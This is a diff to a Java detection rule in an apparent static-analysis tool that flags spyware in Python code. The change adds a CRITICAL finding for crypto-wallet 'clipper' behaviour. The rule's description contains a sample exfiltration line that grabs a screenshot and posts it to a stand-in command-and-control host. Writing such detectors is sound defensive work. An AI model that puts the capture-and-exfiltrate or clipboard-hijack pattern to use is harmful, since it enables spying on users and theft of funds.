@@ -11,8 +11,10 @@ import dev.kingsnake.spi.PythonFileRule;
 import dev.kingsnake.spi.RuleContext;
 import dev.kingsnake.spi.RuleInfo;
 import dev.kingsnake.spi.Tags;
+import dev.kingsnake.spi.python.Const;
 
 import java.util.HashSet;
+import java.util.Optional;
 import java.util.Set;
 import java.util.regex.Pattern;
 
@@ -26,7 +28,9 @@ public final class SpywareRule implements PythonFileRule {
             "img = ImageGrab.grab(); requests.post('https://c2.example.invalid', files={'f': img_bytes})",
             "Automation, screenshot and clipboard utilities use the same APIs; a capture call is only reported when "
                     + "the same function (high) or file (medium) sends data out, keyboard hooks always at low weight, "
-                    + "and clipboard writes only when the file also reads the clipboard and holds a wallet-address regex.");
+                    + "and clipboard writes only when the file also reads the clipboard and holds a wallet-address regex;"
+                    + " writing a hard-coded wallet address into the clipboard in the function that reads it is CRITICAL (a"
+                    + " clipper; a wallet's copy-address button does not read the clipboard first).");
 
     /** Regex sources or literals shaped like cryptocurrency addresses (BTC, ETH, XMR, LTC, TRX ...). */
     private static final Pattern WALLET_SHAPE = Pattern.compile(
@@ -60,7 +64,12 @@ public final class SpywareRule implements PythonFileRule {
             Location at = Location.of(file, c.call());
             String ev = file.line(c.call().line());
             if (c.is(Capability.CLIPBOARD_WRITE)) {
-                if (walletShapes) {
+                Optional<String> planted = c.call().arg(0).flatMap(file::constant).filter(k -> k instanceof Const.Str)
+                        .map(Const::asText).map(String::strip).filter(WalletAddresses::isAddress);
+                if (planted.isPresent() && facts.scopeHas(c.scope(), Capability.CLIPBOARD_READ)) {
+                    sink.report(at, "puts the hard-coded wallet address " + planted.get() + " into the clipboard it"
+                            + " has just read (a clipper)", ev, Severity.CRITICAL, Confidence.HIGH);
+                } else if (walletShapes) {
                     sink.report(at, "replaces clipboard contents that match cryptocurrency-address shapes", ev,
                             Severity.HIGH, Confidence.HIGH);
                 }
